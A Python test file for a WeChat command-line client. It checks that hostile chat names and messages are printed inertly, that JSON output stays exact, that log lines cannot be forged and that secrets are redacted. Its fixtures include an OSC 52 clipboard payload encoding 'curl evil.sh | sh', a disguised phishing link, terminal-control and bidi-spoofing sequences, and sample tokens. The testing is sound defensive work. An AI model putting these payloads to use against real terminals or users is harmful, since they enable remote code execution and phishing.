"""Hostile text from WeChat never drives the terminal or forges a log line; --json stays exact.

Anyone in a group can send, or rename themselves or the group to, escape sequences: OSC 52
(clipboard write), OSC 8 (a link whose text is not its target), OSC 0 (window title), CSI 2J
(clear screen), the one-byte C1 CSI, bidi overrides and rich markup.
"""

from __future__ import annotations

import json
import logging

import pytest

from tests.test_client_helpers import run_cli
from tests.test_history import msg
from tests.test_session import sample_state
from wxcli.contacts import ContactDirectory
from wxcli.logutil import RedactingFilter, redact
from wxcli.paths import ProfilePaths
from wxcli.protocol.models import Contact
from wxcli.session import SessionStore
from wxcli.store.archive import Archive, Ingestor
from wxcli.textsafe import printable

OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
OSC8 = "\x1b]8;;http://evil.example/\x1b\\点这里领退款\x1b]8;;\x1b\\"
TITLE = "\x1b]0;pwned\x07"
CLEAR = "\x1b[2J\x1b[H"
C1_CSI = "\x9b2J"
BIDI = "\u202egnp.exe"
MARKUP = "[bold red]管理员[/] [link=http://evil.example/]官方客服[/link]"
HOSTILE = [OSC52, OSC8, TITLE, CLEAR, C1_CSI, BIDI, "a\rb", "nul\x00del\x7f"]
NAME = "客服群" + OSC8 + TITLE + BIDI + MARKUP
TEXT = "退款" + MARKUP + OSC52 + CLEAR + C1_CSI + "\n第二行"

# Bytes that a terminal acts on: ESC, the C1 range (one-byte CSI/OSC/ST), BEL, CR, NUL, bidi.
FORBIDDEN = ["\x1b", "\x9b", "\x9d", "\x07", "\r", "\x00", "\x7f", "\u202e"]


def assert_inert(output: str) -> None:
    for ch in FORBIDDEN:
        assert ch not in output, repr(ch)


@pytest.mark.parametrize("hostile", HOSTILE)
def test_printable_shows_every_control_character(hostile):
    shown = printable(hostile)
    assert_inert(shown)
    assert "\n" not in printable("a\nb") and printable("a\nb", multiline=True) == "a\nb"
    assert printable("普通的 text\twith tab 😀") == "普通的 text\twith tab 😀"  # untouched


@pytest.fixture
def hostile_archive(db_url, wx_home):
    a = Archive(db_url, wx_home)
    ing = Ingestor(a, a.account_id(42, "me"), "sid", self_user="@me", self_nickname="me")
    ing.store([msg(1, TEXT, chat_name=NAME, name="张伟" + TITLE + MARKUP)], None)
    a.close()
    return db_url


def test_history_table_is_inert_and_json_is_exact(hostile_archive, capsys, monkeypatch):
    monkeypatch.setenv("COLUMNS", "300")
    code, out, err = run_cli(capsys, "history", "--db", hostile_archive)
    assert code == 0, err
    assert_inert(out + err)
    assert "[bold" in out  # markup printed as spelled (cut by the column), not interpreted
    assert "\\e]52;" in out  # visibly neutralised, not silently dropped

    code, out, _ = run_cli(capsys, "history", "--db", hostile_archive, "--json")
    row = json.loads(out)
    assert row["text"] == TEXT and row["chat"] == NAME  # exact


def test_contacts_table_is_inert_and_json_is_exact(wx_home, capsys, monkeypatch):
    monkeypatch.setenv("COLUMNS", "300")
    state = sample_state(
        contacts=ContactDirectory(
            [
                Contact(user_name="@me", nickname="客服中心"),
                Contact(user_name="@a1", nickname="张三" + OSC52, remark=MARKUP, contact_flag=3),
                Contact(user_name="@@g1", nickname=NAME, member_count=2),
            ]
        )
    )
    SessionStore(ProfilePaths("default", wx_home)).save(state)
    code, out, err = run_cli(capsys, "contacts")
    assert code == 0, err
    assert_inert(out + err)
    assert "[link=http://evil.example/]官方客服[/link]" in out

    code, out, _ = run_cli(capsys, "contacts", "--json")
    names = {v for line in out.splitlines() for v in json.loads(line).values()}
    assert NAME in names and "张三" + OSC52 in names


def test_an_error_naming_a_hostile_chat_is_inert(wx_home, capsys):
    state = sample_state(
        contacts=ContactDirectory(
            [Contact(user_name="@me", nickname="客服中心"), Contact("@@g1", NAME, member_count=2)]
        )
    )
    SessionStore(ProfilePaths("default", wx_home)).save(state)
    # a near match is suggested by name: the suggestion must not drive the terminal either
    code, out, err = run_cli(capsys, "send", "text", "--to", "客服群X", "hi")
    assert code != 0
    assert err.startswith("Error: ")
    assert_inert(out + err)


def test_log_records_cannot_forge_lines_or_drive_the_terminal():
    record = logging.LogRecord(
        "wxcli.test",
        logging.INFO,
        __file__,
        1,
        "got %s",
        ("x\n2026-12-07 ERROR forged" + OSC52,),
        None,
    )
    assert RedactingFilter().filter(record)
    line = record.getMessage()
    assert "\n" not in line and "\\n2026-12-07 ERROR forged" in line
    assert_inert(line)


@pytest.mark.parametrize(
    ("text", "secret"),
    [
        ("POST https://oapi.dingtalk.com/robot/send?access_token=DT0KEN123&sign=S1G", "DT0KEN123"),
        ("POST https://oapi.dingtalk.com/robot/send?access_token=DT0KEN123&sign=S1G", "S1G"),
        ("https://qyapi.weixin.qq.com/cgi-bin/webhook/send?key=WEC0MKEY", "WEC0MKEY"),
        ("https://open.feishu.cn/open-apis/bot/v2/hook/F3ISHU-T0KEN", "F3ISHU-T0KEN"),
        ("{'sid': 'S1DVALUE', 'uin': 123}", "S1DVALUE"),
        ('{"Sid": "S1DVALUE"}', "S1DVALUE"),
        ("Authorization: Bearer wxk_APPKEY", "wxk_APPKEY"),
        ("X-Signature: 0123abcd", "0123abcd"),
        ("smtp_password = hunter2", "hunter2"),
        ("Cookie: wxsid=S1DVALUE; webwx_data_ticket=T1CKET", "T1CKET"),
        ("pass_ticket%3DPASST1CKET", "PASST1CKET"),
    ],
)
def test_one_redaction_filter_masks_every_secret_shape(text, secret):
    assert secret not in redact(text)
